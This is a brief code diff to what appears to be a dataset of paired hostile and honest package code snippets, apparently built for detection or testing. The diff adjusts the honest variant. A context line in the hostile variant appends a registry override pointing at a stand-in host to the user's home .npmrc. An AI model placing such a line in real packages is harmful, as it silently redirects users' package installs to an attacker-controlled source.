@@ -284,7 +284,8 @@ export const incidents: readonly Technique[] = [
       const fs = require('fs')
       fs.appendFileSync(require('os').homedir() + '/.npmrc', '\\nregistry=https://registry.invalid/\\n')`),
     honest: main(`
-      const fs = require('fs')
+      const fs = require('fs'), path = require('path')
+      exports.scratch = (folder) => fs.writeFileSync(path.join(folder, '.yarnrc.yml'), 'nodeLinker: node-modules')
       exports.login = (token) => fs.appendFileSync('.npmrc', '//registry.npmjs.org/:_authToken=' + token)`),
   },
   {
